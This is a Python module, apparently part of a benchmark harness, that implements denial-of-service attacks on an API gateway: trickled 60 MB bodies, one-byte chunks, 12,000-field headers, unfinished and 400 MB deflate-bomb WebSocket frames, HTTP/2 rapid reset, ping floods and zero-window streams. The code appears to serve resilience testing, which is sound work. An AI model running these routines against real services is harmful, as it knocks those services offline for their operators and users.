"""Attacks below the requests: slow bodies, WebSockets, frames of HTTP/2, heads of HTTP/1.1."""

from __future__ import annotations

import contextlib
import json
import socket
import struct
import time
import zlib
from collections.abc import Callable, Generator

import h2.config
import h2.connection
import h2.settings
from wsproto.frame_protocol import FrameProtocol

from bench.attacks.target import Target

Attack = Callable[[Target, float], None]
_OPENING = (
    "GET /v1/responses HTTP/1.1\r\nhost: localhost\r\nupgrade: websocket\r\n"
    "connection: upgrade\r\nsec-websocket-version: 13\r\nauthorization: {}\r\n{}"
    "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
_DEFLATE = "sec-websocket-extensions: permessage-deflate\r\n"
_MEGABYTE = 1 << 20


@contextlib.contextmanager
def _connected(target: Target) -> Generator[socket.socket]:
    with (
        contextlib.suppress(OSError),  # the gateway may cut an attacker
        socket.create_connection((target.host, target.port), timeout=20) as connection,
    ):
        yield connection


def _head(target: Target, size: int) -> bytes:
    fields = "".join(f"{k}: {v}\r\n" for k, v in target.headers("attacker").items())
    return (
        f"POST {target.path} HTTP/1.1\r\nhost: a\r\ncontent-length: {size}\r\n{fields}\r\n".encode()
    )


def trickle(target: Target, until: float) -> None:
    """A body of 60 MB, of which 20 come at once and the rest byte by byte."""
    with _connected(target) as connection:
        connection.sendall(_head(target, 60 * _MEGABYTE) + b'{"a": "' + b"x" * 20 * _MEGABYTE)
        while time.monotonic() < until:
            connection.sendall(b"x")
            time.sleep(0.01)


def tiny_chunks(target: Target, until: float) -> None:
    """A body in chunks of one byte."""
    fields = "".join(f"{k}: {v}\r\n" for k, v in target.headers("attacker").items())
    head = f"POST {target.path} HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n{fields}\r\n"
    with _connected(target) as connection:
        connection.sendall(head.encode())
        while time.monotonic() < until:
            connection.sendall(b"1\r\nx\r\n" * 10_000)


def pipelined(target: Target, until: float) -> None:
    """Requests without a pause, whose answers nobody reads."""
    with _connected(target) as connection:
        while time.monotonic() < until:
            connection.sendall(b"GET /v1/models HTTP/1.1\r\nhost: a\r\n\r\n" * 1_000)


def heads(target: Target, until: float) -> None:
    """Heads of thousands of fields, each on a connection of its own."""
    while time.monotonic() < until:
        with _connected(target) as connection:
            connection.sendall(b"GET / HTTP/1.1\r\nhost: a\r\n" + b"a:b\r\n" * 12_000 + b"\r\n")
            connection.recv(4096)


def connections(target: Target, until: float) -> None:
    """Connections that are opened and closed."""
    while time.monotonic() < until:
        with _connected(target):
            pass


def _open_socket(target: Target, connection: socket.socket, more: str = "") -> FrameProtocol:
    key = target.headers("attacker")["authorization"]
    connection.sendall(_OPENING.format(key, more).encode())
    connection.recv(4096)
    return FrameProtocol(client=True, extensions=[])


def unfinished(target: Target, until: float) -> None:
    """WebSocket messages of 15 MB that have no end."""
    with _connected(target) as connection:
        frames = _open_socket(target, connection)
        connection.sendall(frames.send_data("x" * 15 * _MEGABYTE, fin=False))
        while time.monotonic() < until:
            connection.sendall(frames.send_data("x", fin=False))
            time.sleep(0.01)


def deflated(target: Target, until: float) -> None:
    """WebSocket messages of some KB that are hundreds of MB."""
    packed = zlib.compressobj(9, wbits=-15)
    data = packed.compress(b'"' * (400 * _MEGABYTE)) + packed.flush(zlib.Z_SYNC_FLUSH)[:-4]
    while time.monotonic() < until:
        with _connected(target) as connection:
            _open_socket(target, connection, _DEFLATE)
            # text, whole and compressed; its mask is all zeros
            connection.sendall(struct.pack(">BBQI", 0xC1, 0xFF, len(data), 0) + data)
            connection.recv(4096)


def many_turns(target: Target, until: float) -> None:
    """A WebSocket message that is no turn, thousands of times, whose answers nobody reads."""
    with _connected(target) as connection:
        frames = _open_socket(target, connection)
        while time.monotonic() < until:
            connection.sendall(b"".join(frames.send_data('{"type": 1}') for _ in range(1_000)))


def _frames(connection: socket.socket) -> h2.connection.H2Connection:
    frames = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
    frames.initiate_connection()
    connection.sendall(frames.data_to_send())
    return frames


def _fields(target: Target) -> list[tuple[str, str]]:
    fields = {":method": "POST", ":path": target.path, ":scheme": "http", ":authority": "localhost"}
    return list({**fields, **target.headers("attacker")}.items())


def rapid_reset(target: Target, until: float) -> None:
    """Requests of HTTP/2 that are reset at once."""
    while time.monotonic() < until:
        with _connected(target) as connection:
            frames, stream = _frames(connection), 1
            while time.monotonic() < until:
                for _ in range(50):
                    frames.send_headers(stream, _fields(target))
                    frames.reset_stream(stream)
                    stream += 2
                connection.sendall(frames.data_to_send())
                frames.clear_outbound_data_buffer()


def pings(target: Target, until: float) -> None:
    """Pings of HTTP/2 and new settings, whose answers nobody reads."""
    with _connected(target) as connection:
        frames = _frames(connection)
        while time.monotonic() < until:
            for _ in range(1_000):
                frames.ping(b"12345678")
            connection.sendall(frames.data_to_send())


def unread(target: Target, until: float) -> None:
    """A hundred streams of one HTTP/2 connection without a window to answer into."""
    body = json.dumps(target.chat("Hi", stream=True, ignore_eos=True, max_tokens=4000)).encode()
    with _connected(target) as connection:
        frames = _frames(connection)
        frames.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        for stream in range(1, 200, 2):
            frames.send_headers(stream, _fields(target))
            frames.send_data(stream, body, end_stream=True)
            connection.sendall(frames.data_to_send())
        while time.monotonic() < until:
            time.sleep(0.05)


def hog(target: Target, until: float) -> None:
    """Long answers, each asked for again when it is there."""
    body = json.dumps(target.chat("Hi", ignore_eos=True, max_tokens=2000)).encode()
    while time.monotonic() < until:
        with _connected(target) as connection:
            connection.sendall(_head(target, len(body)) + body)
            connection.recv(65536)


# By name, with how many connections do it at once.
WIRES: dict[str, tuple[Attack, int]] = {
    "bodies of 60 MB by trickle": (trickle, 20),
    "chunks of one byte": (tiny_chunks, 2),
    "heads of 12,000 fields": (heads, 4),
    "pipelined requests, unread": (pipelined, 4),
    "connections opened and closed": (connections, 8),
    "unfinished WebSocket messages of 15 MB": (unfinished, 20),
    "WebSocket messages that inflate to 400 MB": (deflated, 2),
    "WebSocket messages that are no turns, unread": (many_turns, 2),
    "HTTP/2: rapid reset": (rapid_reset, 2),
    "HTTP/2: pings and settings, unread": (pings, 2),
    "HTTP/2: 100 streams without a window": (unread, 1),
    "80 connections of one principal": (hog, 80),
}
